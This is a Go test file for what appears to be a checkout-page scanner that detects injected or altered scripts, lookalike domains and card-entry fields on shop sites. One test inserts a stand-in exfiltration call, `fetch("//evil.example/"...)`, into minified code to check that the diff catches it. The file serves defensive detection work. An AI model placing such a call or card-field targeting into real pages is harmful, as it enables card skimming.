package payment

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"sotomi/scanner/browser"
)

func TestShape(t *testing.T) {
	for name, c := range map[string]struct {
		a, b string
		same bool
	}{
		"white space and comments": {"var a = 1; // x\nf(a);", "/* y */var a=1;f(a);", true},
		"numbers and texts":        {`push({total: 1, day: "2026-11-26"});`, `push({total: 98.5, day: "2026-12-01"});`, true},
		"more data":                {`push([{id: 1}]);`, `push([{id: 1}, {id: 2, tags: ["a", "b"]}]);`, true},
		"a call among the data":    {`push({total: 1});`, `push({total: f(1)});`, false},
		"another host":             {`push({u: "https://a.example/x"});`, `push({u: "https://b.example/x"});`, false},
		"another account":          {`gtag("config", "G-ABC1234");`, `gtag("config", "G-XYZ1234");`, false},
		"another key":              {`Stripe("pk_live_abc");`, `Stripe("pk_live_xyz");`, false},
		"a token that is sent":     {`fetch("/a", {h: "0f0f0f0f0f0f0f0f"});`, `fetch("/a", {h: "1a1a1a1a1a1a1a1a"});`, true},
		"another path that loads":  {`s.src = "/a.js";`, `s.src = "/b.js";`, false},
		"text that becomes code":   {`eval("a()");`, `eval("b()");`, false},
		"in brackets":              {`window["eval"]("a()");`, `window["eval"]("b()");`, false},
		"a host in escapes":        {`s.t = "x";`, `s.t = "\x68ttps://b.example";`, false},
		"no program":               {`<p>a`, `<p>b`, false},
		"regular expressions":      {`a = b.replace(/["']/g, "") / 2;`, `a=b.replace(/["']/g,"")/2;`, true},
	} {
		if same := Shape([]byte(c.a)) == Shape([]byte(c.b)); same != c.same {
			t.Errorf("%s: same = %v", name, same)
		}
	}
}

// TestCodeOfStrangers: whatever a page holds, it is read to its end.
func TestCodeOfStrangers(t *testing.T) {
	parts := []string{"a", "/", "`", "${", "}", "{", "(", ")", "[", "]", "\"", "'", "\\", "\n", "*/", "/*", "//", "=", "=>", "0x", "1e", "eval", "\x00", "\xff", "…"}
	rapid.Check(t, func(r *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(parts), 0, 30).Draw(r, "parts"), "")
		Shape([]byte(text))
		readCode([]byte(text))
		Difference(text, Pretty(text))
	})
}

func TestPretty(t *testing.T) {
	minified := strings.Repeat(`function a(b){if(b){for(var i=0;i<2;i++)c(i);return"x"}}`, 4)
	lines := strings.Split(strings.TrimSpace(Pretty(minified)), "\n")
	if len(lines) < 20 || lines[0] != "function a(b) {" || lines[1] != "  if(b) {" {
		t.Errorf("%d lines:\n%s", len(lines), Pretty(minified))
	}
	changed := strings.Replace(minified, "c(i)", `fetch("//evil.example/"+i)`, 1)
	got := Difference(minified, changed)
	if added := strings.Count("\n"+got, "\n+"); added != 1 || !strings.Contains(got, `fetch("//evil.example/"`) {
		t.Errorf("%d lines were added:\n%s", added, got)
	}
}

func TestLooksAlike(t *testing.T) {
	for host, want := range map[string]bool{
		"g00gle-analytics.com": true, "www.google-analytics-cdn.top": true, "googletagmamager.com": true, "jquery-cdn.top": true, "paypa1.com": true, "gooogle.com": true,
		"xn--ggle-55da.com": true, "googletagmanager.net": true,
		"google.de": false, "rakuten.com": false, "jqueryui.com": false, "paypal.jp": false, "stripes.jp": false, "cloudflare-dns.com": false, "shop.example": false, "localhost": false,
		"code.example": false, "static-assets.example": false, "analytics.example": false,
	} {
		if got := looksAlike(host); got != want {
			t.Errorf("looksAlike(%q) = %v", host, got)
		}
	}
}

func TestHolds(t *testing.T) {
	for want, fields := range map[string][]browser.Field{
		holdsCard: {
			{Autocomplete: "cc-number"},
			{Autocomplete: "billing cc-csc"},
			{Name: "card_no"},
			{ID: "cardNumber"},
			{Name: "order[cc-num]"},
			{Name: "x", Label: "カード番号"},
			{Name: "cvv", Type: "password"},
			{Name: "security_code"},
		},
		holdsPassword: {{Name: "login_pass", Type: "password"}},
		"": {
			{Name: "q"}, {Name: "giftcard_number"}, {Name: "card_number", Type: "hidden"}, {Name: "point_card_no"}, {Name: "x", Label: "会員カード番号"}, {Name: "discard"}, {Name: "email"},
		},
	} {
		for _, f := range fields {
			if got := Holds(f); got != want {
				t.Errorf("Holds(%+v) = %q, want %q", f, got, want)
			}
		}
	}
}

func TestIsCheckout(t *testing.T) {
	for path, want := range map[string]bool{
		"/cart": true, "/checkout/": true, "/shopping/login": true, "/shopping": true, "/cart/index.php": true, "/usces-cart/": true, "/shop/basket.html": true, "/checkouts/cn/abc": true,
		"/p/cart": true, "/ja/shopping/payment.php": true,
		"/": false, "/shopping-guide": false, "/cartoon": false, "/blog/how-to-order": false, "/products/cart-bag": false,
	} {
		if got := IsCheckout(&url.URL{Path: path}); got != want {
			t.Errorf("IsCheckout(%q) = %v", path, got)
		}
	}
	for address, want := range map[string]bool{
		"/index.php?main_page=checkout_payment": true, "/index.php?main_page=shopping_cart": true, "/index.php?route=checkout/checkout": true, "/index.php?controller=order": true,
		"/checkout_payment.php": true, "/checkout/cart/": true, "/index.php?main_page=checkout_success": false, "/index.php?route=checkout/success": false,
		"/index.php?main_page=index": false, "/checkout_process.php": false,
	} {
		if got := IsCheckout(addressOf(t, address)); got != want {
			t.Errorf("IsCheckout(%q) = %v", address, got)
		}
	}
}

func addressOf(t *testing.T, path string) *url.URL {
	t.Helper()
	u, err := url.Parse("https://s.example" + path)
	if err != nil {
		t.Fatal(err)
	}
	return u
}

// TestHarmlessLinks: what goes on to an order, or changes anything but adding one article to a guest's cart, is never followed.
func TestHarmlessLinks(t *testing.T) {
	for path, want := range map[string]string{
		"/?add-to-cart=12": "adds", "/shop/apple/?add-to-cart=12&quantity=1": "adds", "/cart/99:1": "adds", "/cart/99:1?channel=buy_button": "adds", "/cart/add?id=99": "adds", "/cart/add/?id=99&quantity=1": "adds",
		"/cart": "shows", "/checkout/": "shows", "/shopping/login": "shows", "/order": "shows", "/index.php?main_page=checkout_payment": "shows", "/index.php?route=checkout/checkout": "shows", "/usces-cart/": "shows",

		"/?add-to-cart=": "", "/?add-to-cart=12&quantity=50": "", "/?add-to-cart=12&buy-now=1": "", "/?add-to-cart=12&subscribe=1": "", "/buy-now/?add-to-cart=12": "", "/order/confirm?add-to-cart=12": "",
		"/cart/99:5": "", "/cart/99:1?discount=X": "", "/cart/99:1?payment=shop_pay": "", "/cart/add?id=99&selling_plan=1": "", "/cart/add?id=99&return_to=/checkout": "", "/buy-now?id=3": "", "/buy/3": "",
		"/order/confirm": "", "/checkout/confirm": "", "/shopping/confirm": "", "/shopping/complete": "", "/cart?action=delete&id=3": "", "/cart/?remove_item=abc&_wpnonce=1": "", "/cart/delete/3": "", "/cart/clear": "",
		"/checkout?subscribe=1":          "",
		"/checkout?do=place-order&buy=1": "", "/index.php?main_page=index&products_id=2&action=buy_now": "", "/index.php?main_page=shopping_cart&action=remove_product&product_id=2": "",
		"/checkout/cart/addToCartLinkV1?products=a:1": "", "/subscribe?id=1": "", "/index.php?main_page=checkout_confirmation": "", "/checkout_process.php": "",
	} {
		got := ""
		switch u := addressOf(t, path); {
		case AddsToCart(u):
			got = "adds"
		case MayVisit(u):
			got = "shows"
		}
		if got != want {
			t.Errorf("%s: %q, want %q", path, got, want)
		}
	}
}

// TestProvidersHaveSources: each host says where it was seen, or that it was not.
func TestProvidersHaveSources(t *testing.T) {
	n := 0
	for line := range strings.Lines(providersText) {
		if strings.HasPrefix(line, "#") {
			continue
		}
		n++
		if cells := strings.Split(strings.TrimSpace(line), "\t"); len(cells) != 4 || !slices.Contains([]string{"payment", "service", "anybody"}, cells[1]) || cells[3] == "" {
			t.Errorf("%q", line)
		}
	}
	if len(knownHosts()) != n || n < 50 {
		t.Errorf("%d of %d hosts are known", len(knownHosts()), n)
	}
	for host, want := range map[string]Party{
		"static.mul-pay.jp": Provider, "www.shop.example": Own, "evil-mul-pay.jp": Other, "www.googletagmanager.com": Service, "fonts.googleapis.com": Service, "www.google.com": Service,
		"storage.googleapis.com": Other, "script.google.com": Other, "x.storage.googleapis.com": Other, "": Own,
	} {
		if got := PartyOf(host, "shop.example"); got != want {
			t.Errorf("PartyOf(%q) = %s", host, got)
		}
	}
}
